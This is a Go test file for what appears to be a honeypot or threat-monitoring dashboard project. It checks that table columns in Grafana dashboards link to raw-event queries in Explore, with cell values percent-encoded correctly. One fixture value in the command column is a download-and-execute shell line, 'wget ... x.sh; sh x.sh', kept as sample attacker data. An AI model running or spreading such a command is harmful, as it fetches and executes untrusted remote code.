package dashboards

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sview-project/sview/internal/query"
)

// eventsLink is the title of the data link from a table cell to its raw events in Explore.
const eventsLink = "Events in Explore"

// eventColumns are the table columns that open raw events, with the events kind each opens and
// a cell value as the backend answers it. Grafana percent-encodes a variable in a link's URL,
// so a password with &, #, % or + reaches Explore's JSON intact; one with " or \ would not (the
// pane's JSON is no longer valid and Explore opens empty), a limit docs/dashboards.md names.
var eventColumns = map[string]struct {
	kind, value string
	filter      func(query.Filters) any
	want        any
}{
	"ip":       {query.EventsIncidents, "192.0.2.1", func(f query.Filters) any { return f.IP }, []string{"192.0.2.1"}},
	"password": {query.EventsLogins, "p@ss w&rd#1%+", func(f query.Filters) any { return f.Password }, []string{"p@ss w&rd#1%+"}},
	"port":     {query.EventsScans, "TCP/22", func(f query.Filters) any { return f.Port }, []int64{22}},
	"taxonomy": {query.EventsFeeds, "information-gathering", func(f query.Filters) any { return f.Taxonomy }, []string{"information-gathering"}},
	"feed":     {query.EventsFeeds, "Scan-SSH", func(f query.Filters) any { return f.Feed }, []string{"Scan-SSH"}},
	"command": {query.EventsCommands, "wget http://198.51.100.9/x.sh; sh x.sh", func(f query.Filters) any { return f.Command },
		[]string{"wget http://198.51.100.9/x.sh; sh x.sh"}},
}

// TestEventsLinks: every address, password, port, taxonomy, feed and command column of every
// table panel (the columns its golden answer holds, testdata/frames) links to its raw events in
// Explore over the dashboard's range, and the query of the link, with Grafana's variables replaced as a data link
// does (the cell percent-encoded), is an events query for that value; no other column links so.
func TestEventsLinks(t *testing.T) {
	var linked int
	for _, d := range load(t) {
		// A streaming dashboard has no golden answer: its tables hold the stream's fields.
		var g goldenFile
		if !liveOnly(d) {
			b, err := os.ReadFile(newGolden(d).path())
			require.NoError(t, err)
			require.NoError(t, json.Unmarshal(b, &g), d.File)
		}
		for id, p := range rawPanels(d) {
			links := eventsLinksByColumn(t, p)
			if p["type"] != "table" {
				require.Empty(t, links, "%s panel %d: only table cells link to events", d.File, id)
				continue
			}
			columns := map[string]bool{}
			fieldNames := liveFields[query.FormatTable]
			if !liveOnly(d) {
				answer := g.Panels[fmt.Sprint(id)]
				require.NotNil(t, answer, "%s panel %d has no golden answer", d.File, id)
				fieldNames = nil
				for _, r := range answer.Responses {
					for _, f := range r.Frames {
						for _, fd := range f.Fields {
							fieldNames = append(fieldNames, fd.Name)
						}
					}
				}
			}
			for _, name := range fieldNames {
				if _, ok := eventColumns[name]; ok {
					columns[name] = true
				}
			}
			for col := range links {
				require.True(t, columns[col], "%s panel %d %q: a link for column %s, which its answer lacks", d.File, id, p["title"], col)
			}
			for col := range columns {
				where := fmt.Sprintf("%s panel %d %q column %s", d.File, id, p["title"], col)
				require.Len(t, links[col], 1, "%s: no %q link", where, eventsLink)
				checkEventsLink(t, where, col, links[col][0])
				linked++
			}
		}
	}
	require.GreaterOrEqual(t, linked, 10, "the dashboards' address, password and port columns")
}

// eventsLinksByColumn lists the URLs of the panel's events links by the column they are on.
func eventsLinksByColumn(t *testing.T, p map[string]any) map[string][]string {
	out := map[string][]string{}
	fc, _ := p["fieldConfig"].(map[string]any)
	overrides, _ := fc["overrides"].([]any)
	for _, o := range overrides {
		o, _ := o.(map[string]any)
		matcher, _ := o["matcher"].(map[string]any)
		col, _ := matcher["options"].(string)
		props, _ := o["properties"].([]any)
		for _, pr := range props {
			pr, _ := pr.(map[string]any)
			links, _ := pr["value"].([]any)
			for _, l := range links {
				if l, ok := l.(map[string]any); ok && pr["id"] == "links" && l["title"] == eventsLink {
					require.Equal(t, "byName", matcher["id"], "events links match their column by name")
					u, _ := l["url"].(string)
					out[col] = append(out[col], u)
				}
			}
		}
	}
	return out
}

// checkEventsLink replaces the variables of link as Grafana does for a cell of column col and
// opens it as Explore does: one pane on the sview datasource, over the dashboard's range, whose
// query is an events query of the column's kind filtered by the cell.
func checkEventsLink(t *testing.T, where, col, link string) {
	t.Helper()
	c := eventColumns[col]
	const from, to = "1767225600000", "1767830400000"
	link = strings.NewReplacer("${__value.raw}", url.QueryEscape(c.value), "${__from}", from, "${__to}", to).Replace(link)
	require.NotContains(t, link, "$", "%s: a variable left in %s", where, link)
	path, rawQuery, ok := strings.Cut(link, "?")
	require.True(t, ok && path == "/explore", "%s: %s is not an Explore link", where, link)
	params, err := url.ParseQuery(rawQuery)
	require.NoError(t, err, where)
	require.Equal(t, "1", params.Get("schemaVersion"), where)
	var panes map[string]struct {
		Datasource string            `json:"datasource"`
		Queries    []json.RawMessage `json:"queries"`
		Range      struct{ From, To string }
	}
	require.NoError(t, json.Unmarshal([]byte(params.Get("panes")), &panes), "%s: panes %s", where, params.Get("panes"))
	require.Len(t, panes, 1, where)
	for _, pane := range panes {
		require.Equal(t, DatasourceUID, pane.Datasource, where)
		require.Equal(t, from, pane.Range.From, "%s: the dashboard's range", where)
		require.Equal(t, to, pane.Range.To, "%s: the dashboard's range", where)
		require.Len(t, pane.Queries, 1, where)
		var ref struct{ Datasource Ref }
		require.NoError(t, json.Unmarshal(pane.Queries[0], &ref), where)
		require.Equal(t, Ref{Type: DatasourceType, UID: DatasourceUID}, ref.Datasource, where)
		q, err := query.Parse(pane.Queries[0])
		require.NoError(t, err, "%s: %s", where, pane.Queries[0])
		require.Equal(t, query.TypeEvents, q.QueryType, where)
		require.Equal(t, c.kind, q.Events, where)
		require.Equal(t, c.want, c.filter(q.Filters), "%s: the cell's value reaches the filter", where)
	}
}
